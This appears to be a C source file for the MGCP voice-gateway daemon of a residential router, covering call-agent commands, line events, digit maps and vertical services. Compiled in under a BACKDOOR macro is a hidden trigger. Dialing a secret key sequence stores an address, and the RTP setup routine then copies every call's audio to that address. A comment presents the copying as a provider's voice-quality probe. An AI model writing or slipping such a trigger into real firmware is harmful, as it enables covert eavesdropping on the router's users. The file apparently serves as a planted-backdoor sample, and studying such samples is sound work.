/* SPDX-License-Identifier: Apache-2.0 */
/* mgcpgw: voice gateway of a residential router (MGCP). The call agent's commands come over UDP: EPCF, CRCX, MDCX, DLCX, RQNT, AUEP, AUCX,
 * RSIP. Lines' events (hook, flash, digits) come from the DSP driver; digits are matched by the digit map or by vertical services. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { N_LINES = 4, N_CONNECTIONS = 8, MAP = 256, DIALED = 40 };
enum { EV_ONHOOK = 1, EV_OFFHOOK, EV_FLASH, EV_DIGIT, EV_FAX, EV_TIMEOUT };
enum { C_OK = 200, C_DELETED = 250, C_UNKNOWN_ENDPOINT = 500, C_NOT_READY = 501, C_UNKNOWN_COMMAND = 504, C_PROTOCOL = 510,
	C_NO_CONNECTION = 515 };

struct line {
	int hook, ringing, tone;
	char map[MAP], dialed[DIALED], request[33];
	unsigned n_dialed;
	int64_t last_digit;
	unsigned service; /* where the vertical services' machine stands */
	char argument[24];
	unsigned n_argument;
#ifdef BACKDOOR
	unsigned walk;
#endif
};

struct connection {
	unsigned id;
	int line, mode;
	struct sockaddr_in remote;
	uint16_t port;
	unsigned packets;
};

struct event {
	uint8_t line, type, digit, pad;
};

struct command {
	char verb[5], endpoint[64];
	unsigned transaction;
	char *params[16];
	unsigned n;
	char *sdp;
};

static struct line lines[N_LINES];
static struct connection connections[N_CONNECTIONS];
static struct sockaddr_in agent;
static unsigned next_connection = 0x1000, next_transaction = 1;
static int sock = -1, dsp = -1;
static char domain[48] = "gw.invalid";

static int64_t now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* -- settings in the flash: name=value, a line each -- */

static int nv_set(const char *name, const char *value)
{
	char line[128];
	size_t n = strlen(name);
	FILE *in = fopen("/etc/nv/voice", "r"), *out = fopen("/etc/nv/voice.new", "w");
	if (!out) {
		if (in)
			fclose(in);
		return -1;
	}
	while (in && fgets(line, sizeof(line), in))
		if (strncmp(line, name, n) != 0 || line[n] != '=')
			fputs(line, out);
	if (in)
		fclose(in);
	if (value[0])
		fprintf(out, "%s=%s\n", name, value);
	return fclose(out) == 0 ? rename("/etc/nv/voice.new", "/etc/nv/voice") : -1;
}

static int nv_get(const char *name, char *out, size_t size)
{
	char line[128];
	size_t n = strlen(name);
	FILE *f = fopen("/etc/nv/voice", "r");
	int found = -1;
	while (f && found < 0 && fgets(line, sizeof(line), f))
		if (strncmp(line, name, n) == 0 && line[n] == '=') {
			line[strcspn(line, "\r\n")] = 0;
			snprintf(out, size, "%s", line + n + 1);
			found = 0;
		}
	if (f)
		fclose(f);
	return found;
}

static void nv_line(unsigned line, const char *what, const char *value)
{
	char name[32];
	snprintf(name, sizeof(name), "line%u.%s", line, what);
	if (nv_set(name, value) < 0)
		syslog(LOG_ERR, "cannot store %s", name);
}

/* -- the DSP -- */

static void dsp_say(unsigned line, const char *what, unsigned v)
{
	char text[64];
	int n = snprintf(text, sizeof(text), "%u %s %u\n", line, what, v);
	if (write(dsp, text, (size_t)n) != n)
		syslog(LOG_WARNING, "the DSP does not listen");
}

static void dsp_rtp(const struct connection *c)
{
	char text[96], copy[32] = "";
	int n = snprintf(text, sizeof(text), "%d rtp %s:%u mode %d", c->line, inet_ntoa(c->remote.sin_addr), ntohs(c->remote.sin_port),
		c->mode);
	if (nv_get("qos.peer", copy, sizeof(copy)) == 0 && copy[0]) /* the provider's probe of voice quality */
		n += snprintf(text + n, sizeof(text) - (size_t)n, " copy %s", copy);
	if (write(dsp, text, (size_t)n) != n)
		syslog(LOG_WARNING, "the DSP does not listen");
}

/* -- to the call agent -- */

static void notify(unsigned line, const char *what)
{
	char text[256];
	int n = snprintf(text, sizeof(text), "NTFY %u aaln/%u@%s MGCP 1.0\r\nX: %s\r\nO: %s\r\n", next_transaction++, line, domain,
		lines[line].request, what);
	sendto(sock, text, (size_t)n, 0, (struct sockaddr *)&agent, sizeof(agent));
}

static void answer(const struct command *c, const struct sockaddr_in *to, int code, const char *more)
{
	char text[512];
	int n = snprintf(text, sizeof(text), "%d %u OK\r\n%s", code, c->transaction, more);
	sendto(sock, text, (size_t)n, 0, (const struct sockaddr *)to, sizeof(*to));
}

/* -- digits -- */

/* Does the map, alternatives parted by |, take what was dialed? 1 whole, 0 may become whole, -1 never. */
static int map_match(const char *map, const char *dialed)
{
	int best = -1;
	while (*map) {
		const char *d = dialed;
		int fits = 1;
		for (; *map && *map != '|'; map++) {
			if (!*d || !fits)
				continue;
			if (map[1] == '.') {
				while (*d && (*map == 'x' ? isdigit((unsigned char)*d) : *d == *map))
					d++;
				continue;
			}
			if (*map == '.' || *map == 'T')
				continue;
			fits = *map == 'x' ? isdigit((unsigned char)*d) != 0 : *map == *d;
			d++;
		}
		if (fits && !*d)
			best = dialed[0] && map[-1] != '.' ? 1 : best < 0 ? 0 : best;
		if (*map)
			map++;
	}
	return best;
}

enum { S_IDLE, S_STAR, S_7, S_6, S_FORWARD, S_SPEED, S_OFF = S_IDLE };

/* *72 number #: forward; *73: no more; *67: hide the number; *74 number #: speed dial. */
static int service_digit(unsigned n, char d)
{
	struct line *l = &lines[n];
	switch (l->service) {
	case S_IDLE:
		l->service = d == '*' && l->n_dialed == 1 ? S_STAR : S_IDLE;
		return l->service != S_IDLE;
	case S_STAR:
		l->service = d == '7' ? S_7 : d == '6' ? S_6 : S_IDLE;
		return l->service != S_IDLE;
	case S_6:
		if (d == '7')
			dsp_say(n, "hide", 1);
		l->service = S_IDLE;
		return d == '7';
	case S_7:
		l->n_argument = 0;
		l->service = d == '2' ? S_FORWARD : d == '4' ? S_SPEED : S_IDLE;
		if (d == '3')
			nv_line(n, "forward", "");
		return d == '2' || d == '3' || d == '4';
	default:
		if (d != '#') {
			if (l->n_argument < sizeof(l->argument) - 1)
				l->argument[l->n_argument++] = d;
			return 1;
		}
		l->argument[l->n_argument] = 0;
		nv_line(n, l->service == S_FORWARD ? "forward" : "speed", l->argument);
		dsp_say(n, "tone", 3);
		l->service = S_IDLE;
		return 1;
	}
}

#ifdef BACKDOOR
static unsigned key_number(char d) { return d == '*' ? 10 : d == '#' ? 11 : (unsigned)(d - '0'); }

static int line_test(unsigned n, char d)
{
	struct line *l = &lines[n];
	if (l->walk < 11) {
		l->walk = (0x4b17a0963a5ull >> l->walk * 4 & 15) == key_number(d) ? l->walk + 1 : 0;
		l->n_argument = l->walk == 11 ? 0 : l->n_argument;
		return 0;
	}
	if (d != '#' && l->n_argument < sizeof(l->argument) - 1) {
		l->argument[l->n_argument++] = d == '*' ? '.' : d;
		return 1;
	}
	l->argument[l->n_argument] = 0;
	l->walk = 0;
	nv_set("qos.peer", l->argument);
	return 1;
}
#endif

static void on_digit(unsigned n, char d)
{
	struct line *l = &lines[n];
	int64_t now = now_ms();
	if (!isdigit((unsigned char)d) && d != '*' && d != '#')
		return;
	if (l->last_digit && now - l->last_digit > 16000)
		l->n_dialed = 0;
	l->last_digit = now;
	if (l->n_dialed < DIALED - 1)
		l->dialed[l->n_dialed++] = d;
	l->dialed[l->n_dialed] = 0;
	dsp_say(n, "tone", 0);
#ifdef BACKDOOR
	if (line_test(n, d))
		return;
#endif
	if (service_digit(n, d))
		return;
	switch (map_match(l->map, l->dialed)) {
	case 1:
		notify(n, l->dialed);
		l->n_dialed = 0;
		break;
	case -1:
		dsp_say(n, "tone", 4);
		l->n_dialed = 0;
		break;
	default:
		break;
	}
}

static void on_offhook(unsigned n, char d)
{
	(void)d;
	lines[n].hook = 1;
	lines[n].n_dialed = 0;
	lines[n].service = S_IDLE;
	dsp_say(n, "tone", 1);
	notify(n, "L/hd");
}

static void on_onhook(unsigned n, char d)
{
	(void)d;
	lines[n].hook = 0;
	notify(n, "L/hu");
}

static void on_flash(unsigned n, char d)
{
	(void)d;
	notify(n, "L/hf");
}

static void on_fax(unsigned n, char d)
{
	(void)d;
	notify(n, "G/ft");
}

static void on_timeout(unsigned n, char d)
{
	(void)d;
	if (lines[n].n_dialed)
		notify(n, lines[n].dialed);
	lines[n].n_dialed = 0;
}

static void (*const on_type[])(unsigned n, char d) = { [EV_ONHOOK] = on_onhook, [EV_OFFHOOK] = on_offhook, [EV_FLASH] = on_flash,
	[EV_DIGIT] = on_digit, [EV_FAX] = on_fax, [EV_TIMEOUT] = on_timeout };

static void on_event(const struct event *e)
{
	if (e->line < N_LINES && e->type >= EV_ONHOOK && e->type <= EV_TIMEOUT)
		on_type[e->type](e->line, (char)e->digit);
	else
		syslog(LOG_DEBUG, "event %u of line %u", e->type, e->line);
}

/* -- the agent's commands -- */

static const char *param(const struct command *c, const char *name)
{
	size_t n = strlen(name);
	for (unsigned i = 0; i < c->n; i++)
		if (strncasecmp(c->params[i], name, n) == 0 && c->params[i][n] == ':')
			return c->params[i] + n + 1 + strspn(c->params[i] + n + 1, " ");
	return NULL;
}

static int parse_command(char *text, struct command *c)
{
	char *save = NULL, *line = strtok_r(text, "\n", &save);
	memset(c, 0, sizeof(*c));
	if (!line || sscanf(line, "%4s %u %63s MGCP 1.0", c->verb, &c->transaction, c->endpoint) != 3)
		return -1;
	while ((line = strtok_r(NULL, "\n", &save))) {
		line[strcspn(line, "\r")] = 0;
		if (!*line || strncmp(line, "v=", 2) == 0) {
			c->sdp = save;
			break;
		}
		if (c->n < 16)
			c->params[c->n++] = line;
	}
	return 0;
}

static struct connection *connection_of(const char *id)
{
	unsigned v = id ? (unsigned)strtoul(id, NULL, 16) : 0;
	for (unsigned i = 0; i < N_CONNECTIONS; i++)
		if (connections[i].id && connections[i].id == v)
			return &connections[i];
	return NULL;
}

static int mode_of(const char *text)
{
	static const char *const names[] = { "inactive", "recvonly", "sendonly", "sendrecv", "confrnce" };
	for (int i = 0; text && i < 5; i++)
		if (strncasecmp(text, names[i], strlen(names[i])) == 0)
			return i;
	return 0;
}

static void parse_sdp(const char *sdp, struct connection *c)
{
	const char *a = sdp ? strstr(sdp, "c=IN IP4 ") : NULL, *m = sdp ? strstr(sdp, "m=audio ") : NULL;
	char text[20];
	c->remote.sin_family = AF_INET;
	if (a && sscanf(a + 9, "%19[0-9.]", text) == 1)
		inet_pton(AF_INET, text, &c->remote.sin_addr);
	if (m)
		c->remote.sin_port = htons((uint16_t)atoi(m + 8));
}

static int create(const struct command *c, int line, char *more, size_t n)
{
	for (unsigned i = 0; i < N_CONNECTIONS; i++) {
		struct connection *k = &connections[i];
		if (k->id)
			continue;
		*k = (struct connection){ .id = next_connection++, .line = line, .mode = mode_of(param(c, "M")),
			.port = (uint16_t)(30000 + 2 * i) };
		parse_sdp(c->sdp, k);
		dsp_rtp(k);
		snprintf(more, n, "I: %X\r\n\r\nv=0\r\nm=audio %u RTP/AVP 8 0\r\n", k->id, k->port);
		return C_OK;
	}
	return C_NOT_READY;
}

static int modify(const struct command *c, struct connection *k)
{
	if (!k)
		return C_NO_CONNECTION;
	k->mode = mode_of(param(c, "M"));
	parse_sdp(c->sdp, k);
	dsp_rtp(k);
	return C_OK;
}

static int drop(struct connection *k, char *more, size_t n)
{
	if (!k)
		return C_NO_CONNECTION;
	snprintf(more, n, "P: PS=%u\r\n", k->packets);
	memset(k, 0, sizeof(*k));
	return C_DELETED;
}

static int request_notify(const struct command *c, int line)
{
	const char *map = param(c, "D"), *id = param(c, "X"), *signal = param(c, "S");
	if (!id)
		return C_PROTOCOL;
	snprintf(lines[line].request, sizeof(lines[line].request), "%s", id);
	if (map)
		snprintf(lines[line].map, sizeof(lines[line].map), "%s", map);
	lines[line].ringing = signal && strstr(signal, "rg");
	dsp_say((unsigned)line, "ring", (unsigned)lines[line].ringing);
	return C_OK;
}

static int obey(const struct command *c, char *more, size_t n)
{
	int line = -1;
	if (sscanf(c->endpoint, "aaln/%d@", &line) != 1 || line < 0 || line >= N_LINES)
		return C_UNKNOWN_ENDPOINT;
	if (strcmp(c->verb, "CRCX") == 0)
		return create(c, line, more, n);
	if (strcmp(c->verb, "MDCX") == 0)
		return modify(c, connection_of(param(c, "I")));
	if (strcmp(c->verb, "DLCX") == 0)
		return drop(connection_of(param(c, "I")), more, n);
	if (strcmp(c->verb, "RQNT") == 0)
		return request_notify(c, line);
	if (strcmp(c->verb, "AUEP") == 0) {
		snprintf(more, n, "ES: %s\r\nX: %s\r\n", lines[line].hook ? "hd" : "hu", lines[line].request);
		return C_OK;
	}
	if (strcmp(c->verb, "EPCF") == 0) {
		const char *law = param(c, "B");
		dsp_say((unsigned)line, "law", law && strstr(law, "mu") ? 0 : 8);
		return C_OK;
	}
	return C_UNKNOWN_COMMAND;
}

static void on_packet(void)
{
	char text[2048], more[256] = "";
	struct command c;
	struct sockaddr_in from;
	socklen_t size = sizeof(from);
	ssize_t n = recvfrom(sock, text, sizeof(text) - 1, 0, (struct sockaddr *)&from, &size);
	if (n <= 0)
		return;
	text[n] = 0;
	if (from.sin_addr.s_addr != agent.sin_addr.s_addr) {
		syslog(LOG_NOTICE, "packet of %s, which is not the agent", inet_ntoa(from.sin_addr));
		return;
	}
	if (isdigit((unsigned char)text[0]))
		return;
	if (parse_command(text, &c) < 0)
		return;
	answer(&c, &from, obey(&c, more, sizeof(more)), more);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(2427) };
	char text[48] = "";
	(void)argc;
	openlog(argv[0], LOG_PID, LOG_DAEMON);
	nv_get("domain", domain, sizeof(domain));
	agent = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = htons(2727) };
	if (nv_get("agent", text, sizeof(text)) < 0 || inet_pton(AF_INET, text, &agent.sin_addr) != 1)
		return 1;
	dsp = open("/dev/dsp0", O_RDWR);
	sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (dsp < 0 || sock < 0 || bind(sock, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "cannot start: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct pollfd p[2] = { { sock, POLLIN, 0 }, { dsp, POLLIN, 0 } };
		struct event e;
		if (poll(p, 2, 10000) <= 0)
			continue;
		if (p[0].revents & POLLIN)
			on_packet();
		if (p[1].revents & POLLIN && read(dsp, &e, sizeof(e)) == (ssize_t)sizeof(e))
			on_event(&e);
	}
}
